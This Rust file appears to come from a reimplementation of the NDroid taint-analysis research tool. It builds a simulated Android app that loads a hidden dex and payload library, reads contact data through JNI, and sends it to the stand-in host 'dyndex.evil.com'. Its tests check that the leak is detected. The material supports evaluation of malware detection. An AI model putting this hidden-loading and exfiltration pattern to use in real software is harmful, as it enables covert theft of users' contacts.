//! Type-II loading capability (§III-B): "these apps have additional
//! compressed dex files that can load native libraries. … many apps use
//! similar approaches to hide the core business logic."
//!
//! The app's visible dex contains no `System.loadLibrary` call; at
//! runtime it opens a hidden dex (`openDexFile`, the last entry of
//! Table VII) and `dlopen`s the payload library, whose code then pulls
//! contact data through JNI and ships it. NDroid observes the loading
//! chain (both calls are hooked) and still tracks the taint.

use crate::builder::{App, AppBuilder};
use ndroid_arm::reg::RegList;
use ndroid_arm::Reg;
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Builds the hidden-dex loader app.
pub fn dyndex_app() -> App {
    let mut b = AppBuilder::new(
        "hidden-dex-loader",
        "Type II: loads a hidden dex + payload library at runtime, then leaks contacts",
    );
    let c = b.class("Lapp/Loader;");
    let dex_bytes = b.data_cstr("PK\x03\x04classes.dex");
    let lib_name = b.data_cstr("libhidden.so");
    let cls = b.data_cstr("Landroid/provider/ContactsProvider;");
    let meth = b.data_cstr("queryEmail");
    let dest = b.data_cstr("dyndex.evil.com");

    // --- The payload routine (conceptually inside libhidden.so) ------
    let payload = b.asm.label();
    b.asm.bind(payload).unwrap();
    b.asm
        .push(RegList::of(&[Reg::R4, Reg::R5, Reg::LR]));
    b.asm.ldr_const(Reg::R0, cls);
    b.asm.call_abs(dvm_addr("FindClass"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.ldr_const(Reg::R1, meth);
    b.asm.call_abs(dvm_addr("GetStaticMethodID"));
    b.asm.mov(Reg::R1, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(dvm_addr("CallStaticObjectMethod"));
    b.asm.mov_imm(Reg::R1, 0).unwrap();
    b.asm.call_abs(dvm_addr("GetStringUTFChars"));
    b.asm.mov(Reg::R4, Reg::R0);
    b.asm.call_abs(libc_addr("socket"));
    b.asm.mov(Reg::R5, Reg::R0);
    b.asm.ldr_const(Reg::R1, dest);
    b.asm.call_abs(libc_addr("connect"));
    b.asm.mov(Reg::R0, Reg::R4);
    b.asm.call_abs(libc_addr("strlen"));
    b.asm.mov(Reg::R2, Reg::R0);
    b.asm.mov(Reg::R0, Reg::R5);
    b.asm.mov(Reg::R1, Reg::R4);
    b.asm.mov_imm(Reg::R3, 0).unwrap();
    b.asm.call_abs(libc_addr("send"));
    b.asm.pop(RegList::of(&[Reg::R4, Reg::R5, Reg::PC]));

    // --- The bootstrap (in the visible stub library) ------------------
    let bootstrap = b.asm.label();
    b.asm.bind(bootstrap).unwrap();
    b.asm.push(RegList::of(&[Reg::LR]));
    // openDexFile(bytes) — the Table VII hook fires here.
    b.asm.ldr_const(Reg::R0, dex_bytes);
    b.asm.call_abs(libc_addr("openDexFile"));
    // dlopen("libhidden.so")
    b.asm.ldr_const(Reg::R0, lib_name);
    b.asm.call_abs(libc_addr("dlopen"));
    // Jump into the "hidden" payload.
    let payload_lbl = payload;
    b.asm.bl(payload_lbl);
    b.asm.pop(RegList::of(&[Reg::PC]));
    let boot_m = b.native_method(c, "bootstrap", "V", true, bootstrap);

    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: boot_m,
                    args: vec![],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lapp/Loader;", "main").unwrap();
    app.lib_name = "libstub.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn loading_chain_is_observed() {
        let sys = dyndex_app().run(Mode::NDroid).unwrap();
        let log = sys.trace.render();
        assert!(
            log.contains("TrustCallHandler[openDexFile]"),
            "the hidden dex load is hooked (Table VII)"
        );
        assert!(log.contains("TrustCallHandler[dlopen] 'libhidden.so'"));
    }

    #[test]
    fn hidden_payload_leak_still_caught() {
        let sys = dyndex_app().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "dyndex.evil.com");
        assert_eq!(*leaks[0].data, *b"cx@gg.com");
    }

    #[test]
    fn taintdroid_sees_nothing() {
        let sys = dyndex_app().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
    }
}
